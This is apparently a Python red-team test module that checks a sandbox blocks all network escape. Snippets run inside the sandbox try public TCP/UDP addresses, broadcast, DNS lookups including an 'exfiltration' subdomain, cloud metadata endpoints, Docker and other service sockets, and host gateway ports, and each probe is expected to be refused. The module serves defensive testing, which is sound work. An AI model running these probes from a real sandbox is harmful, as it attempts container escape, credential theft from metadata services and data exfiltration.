"""The network: every road out of a room."""

import socket
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import replace

from tests.redteam.arena import Arena, shared
from tests.redteam.attack import WORKED, Attack, Seen, each

#: There is no road: not a firewall's silence, which a patient attacker could wait out.
NO_ROAD = "refused (ENETUNREACH|EADDRNOTAVAIL|EHOSTUNREACH|EAFNOSUPPORT|EPERM)"
NOBODY = "refused (ENETUNREACH|ECONNREFUSED|EHOSTUNREACH|EADDRNOTAVAIL)"
NO_LINK = "refused (ENETUNREACH|EADDRNOTAVAIL|ENODEV|EHOSTUNREACH|ECONNREFUSED|EINVAL)"
NO_NAME = r"refused .*(Name or service not known|name resolution|-[235]\b|EAI_).*"

CONNECT = """
def connect(family, kind, address):
    with socket.socket(family, kind) as way:
        way.settimeout(3)
        way.connect(address)
        way.send(b"x")
        return way.getsockname()

def own(family, kind, host):
    with socket.socket(family, kind) as server:
        server.bind((host, 0))
        if kind == socket.SOCK_STREAM:
            server.listen()
        return connect(family, kind, server.getsockname())
"""

TCP = """
step("control: own TCP", own, socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1")
step("one", connect, socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443))
step("other", connect, socket.AF_INET, socket.SOCK_STREAM, ("8.8.8.8", 53))
step("six", connect, socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 443))
step("mapped", connect, socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:1.1.1.1", 443))
step("link local", connect, socket.AF_INET6, socket.SOCK_STREAM, ("fe80::1%lo", 443))
"""

UDP = """
step("control: own UDP", own, socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1")
step("four", connect, socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 53))
step("six", connect, socket.AF_INET6, socket.SOCK_DGRAM, ("2606:4700:4700::1111", 53))
many = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
many.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
step("broadcast", many.sendto, b"x", ("255.255.255.255", 9))
step("multicast", many.sendto, b"x", ("224.0.0.251", 5353))
"""

NAMES = """
step("control: a name in a file", socket.getaddrinfo, "localhost", 80)
step("name", socket.getaddrinfo, "example.org", 443)
step("exfiltration", socket.getaddrinfo, "secret.of.the.repository.example.org", 80)
step("metadata", socket.getaddrinfo, "metadata.google.internal", 80)
step("engine", socket.getaddrinfo, "host.docker.internal", 80)
question = bytes.fromhex("123401000001000000000000076578616d706c65036f72670000010001")
def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.settimeout(2)
        way.connect((server, 53))
        way.send(question)
        return way.recv(512)
step("engine's resolver", ask, "127.0.0.11")
step("system's resolver", ask, "127.0.0.53")
step("public resolver", ask, "9.9.9.9")
"""

SOCKETS = """
paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/gate",
         "/run/podman/podman.sock", "/run/user/0/docker.sock", "/run/user/1000/docker.sock", "/run/crio/crio.sock",
         "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify", "/run/systemd/journal/socket",
         "/dev/log", "/run/snapd.socket", "/run/nscd/socket", "/tmp/.X11-unix/X0", "/run/lxd.socket"]
for path in paths:
    step("connect", socket.socket(socket.AF_UNIX).connect, path)
found = []
for top in ("/run", "/var", "/tmp", "/dev", "/opt", "/etc", "/home", "/srv", "/mnt"):
    for place, _, names in os.walk(top):
        for name in names:
            try:
                if os.lstat(os.path.join(place, name)).st_mode & 0o170000 == 0o140000:
                    found.append(os.path.join(place, name))
            except OSError:
                pass
say("sockets seen", found)
with socket.socket(socket.AF_UNIX) as server:
    server.bind("/tmp/own-socket")
    server.listen()
    step("control: own socket", lambda: socket.socket(socket.AF_UNIX).connect("/tmp/own-socket"))
os.unlink("/tmp/own-socket")
"""

METADATA = """
for name, family, address in [
    ("aws, gcp, azure", 2, ("169.254.169.254", 80)), ("aws six", 10, ("fd00:ec2::254", 80)),
    ("ecs", 2, ("169.254.170.2", 80)), ("alibaba", 2, ("100.100.100.200", 80)), ("oracle", 2, ("192.0.0.192", 80)),
    ("azure wire", 2, ("168.63.129.16", 80)),
]:
    step(name, connect, family, socket.SOCK_STREAM, address)
step("control: own TCP", own, socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1")
"""

HOST = """
step("abstract socket", lambda: socket.socket(socket.AF_UNIX).connect(b"\\0" + {name!r}.encode()))
for place in {addresses!r}:
    family = socket.AF_INET6 if ":" in place else socket.AF_INET
    step("server", connect, family, socket.SOCK_STREAM, (place, {port}))
for port in (22, 80, 443, 2375, 2376, 5000, 8080):
    step("gateway's port", connect, socket.AF_INET, socket.SOCK_STREAM, ("172.17.0.1", port))
with socket.socket(socket.AF_UNIX) as server:
    server.bind(b"\\0own")
    server.listen()
    step("control: own abstract socket", lambda: socket.socket(socket.AF_UNIX).connect(b"\\0own"))
"""


def against_the_host(arena: Arena, attack: Attack) -> Seen:
    """With servers on this machine that answer everybody: what a room must not reach."""
    with listening() as (port, name):
        addresses = ["127.0.0.1", "::1", "172.17.0.1", *own_addresses()]
        seen = shared(arena, replace(attack, code=attack.code.format(port=port, name=name, addresses=addresses)))
        with socket.create_connection(("127.0.0.1", port), 5):
            seen["control: the host's server answers the host"] = "worked"
    return seen


@contextmanager
def listening() -> Iterator[tuple[int, str]]:
    """A TCP server on every address of this machine and one on an abstract Unix socket: port and name."""
    with ExitStack() as held:
        server = held.enter_context(socket.create_server(("", 0), backlog=8))
        named = held.enter_context(socket.socket(socket.AF_UNIX))
        name = f"code-intern-redteam-{server.getsockname()[1]}"
        named.bind(f"\0{name}")
        named.listen()
        yield server.getsockname()[1], name


def own_addresses() -> list[str]:
    """Addresses of this machine, as far as they are easily known."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        try:
            way.connect(("192.0.2.1", 9))  # sends nothing
        except OSError:
            return []
        return [str(way.getsockname()[0])]


ATTACKS = (
    Attack(
        "TCP to the world",
        "Connects to public addresses, of both kinds and in disguise.",
        CONNECT + TCP,
        each("one; other; six; mapped", NO_ROAD) | each("link local", NO_LINK) | each("control: own TCP", WORKED),
        shared,
    ),
    Attack(
        "UDP to the world",
        "Sends datagrams to public addresses and to everybody nearby.",
        CONNECT + UDP,
        each("four; six; broadcast; multicast", NO_ROAD) | each("control: own UDP", WORKED),
        shared,
    ),
    Attack(
        "names",
        "Asks for names, which would carry data out, by libc and by datagrams.",
        NAMES,
        each("name; exfiltration; metadata; engine", NO_NAME)
        | each("engine's resolver; system's resolver; public resolver", NOBODY)
        | each("control: a name in a file", WORKED),
        shared,
    ),
    Attack(
        "sockets of services",
        "Connects to the engine, the gate, the bus, and whatever other socket it finds.",
        SOCKETS,
        each("connect", "refused (ENOENT|EACCES|ENOTDIR|ECONNREFUSED)")
        | each("sockets seen", r"\[\]")
        | each("control: own socket", WORKED),
        shared,
    ),
    Attack(
        "metadata services",
        "Asks the addresses where clouds tell secrets.",
        CONNECT + METADATA,
        each("aws, gcp, azure; aws six; ecs; alibaba; oracle; azure wire", NO_ROAD) | each("control: own TCP", WORKED),
        shared,
    ),
    Attack(
        "servers of the host",
        "Connects to servers that really listen on this machine, by every address of it.",
        CONNECT + HOST,
        each("abstract socket", "refused ECONNREFUSED")
        | each("server; gateway's port", NOBODY)
        | each("control: own abstract socket; control: the host's server answers the host", "worked.*"),
        against_the_host,
    ),
)
